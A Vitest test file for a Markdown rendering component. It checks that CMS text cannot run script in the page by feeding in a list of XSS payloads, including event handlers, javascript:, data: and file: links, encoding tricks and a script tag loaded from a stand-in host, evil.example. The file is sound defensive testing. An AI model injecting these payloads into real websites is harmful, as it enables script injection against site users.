import { describe, expect, it } from 'vitest';
import { render, screen } from '@/testing/render';
import { Markdown } from './markdown';

// Cms texts are written by editors, but an editor's account can be stolen: whatever a text holds,
// the rendered page must not run script (DECISIONS §4). Payloads from the usual cheat sheets,
// in markdown and in raw HTML, with the encodings browsers forgive.
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=import href=data:text/html,<script>alert(1)</script>>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](java\tscript:alert(1))',
  '[x](java&#x09;script:alert(1))',
  '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](javascript://%0Aalert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](javascript:alert(1) "title")',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[x][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x"onerror="alert(1)](https://example.invalid/a.png)',
  '![x](https://example.invalid/a.png"onerror="alert(1))',
  '[x](https://example.invalid"onmouseover="alert(1))',
  '[<img src=x onerror=alert(1)>](https://example.invalid)',
  '**<img src=x onerror=alert(1)>**',
  '> <script>alert(1)</script>',
  '- <svg/onload=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '```html\n<script>alert(1)</script>\n```',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '[x](\u0001javascript:alert(1))',
  '[x](\u2028javascript:alert(1))',
  '<a href=" javascript:alert(1)">x</a>',
  '<img src="jav&#x0A;ascript:alert(1)">',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

// Attributes through which a browser would fetch or navigate.
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background', 'poster'];
const DANGEROUS_ELEMENTS = 'script, iframe, object, embed, form, style, meta, base, link, svg, math, frame, frameset, applet';

/** What a browser would read as the scheme of an attribute's address. */
const schemeOf = (value: string) => {
  const decoded = value.replace(/&#x?[0-9a-f]+;?/gi, '').replace(/[\u0000-\u0020\u2028\u2029]/g, '');
  const match = /^([a-z][a-z0-9+.-]*):/i.exec(decoded);
  return match ? match[1].toLowerCase() : null;
};

describe('Markdown with hostile input', () => {
  it('has a large enough set of payloads', () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(50);
  });

  it.each(PAYLOADS)('renders %j without anything that could run', (payload) => {
    render(
      <div data-testid="rendered">
        <Markdown>{`Vorher\n\n${payload}\n\nNachher`}</Markdown>
      </div>,
    );
    // The test wrapper adds the theme's own <style>; only what the markdown produced is judged.
    const container = screen.getByTestId('rendered');

    expect(container.querySelectorAll(DANGEROUS_ELEMENTS)).toHaveLength(0);
    for (const element of container.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name, `${element.tagName} carries ${attribute.name}`).not.toMatch(/^on/i);
        if (URL_ATTRIBUTES.includes(attribute.name.toLowerCase())) {
          expect(['javascript', 'vbscript', 'data', 'file']).not.toContain(schemeOf(attribute.value));
        }
        expect(attribute.value.toLowerCase().replace(/\s/g, '')).not.toContain('javascript:');
      }
    }
    // The surrounding text is still there: the hostile part is dropped, not the whole text.
    expect(container.textContent).toContain('Vorher');
    expect(container.textContent).toContain('Nachher');
  });
});
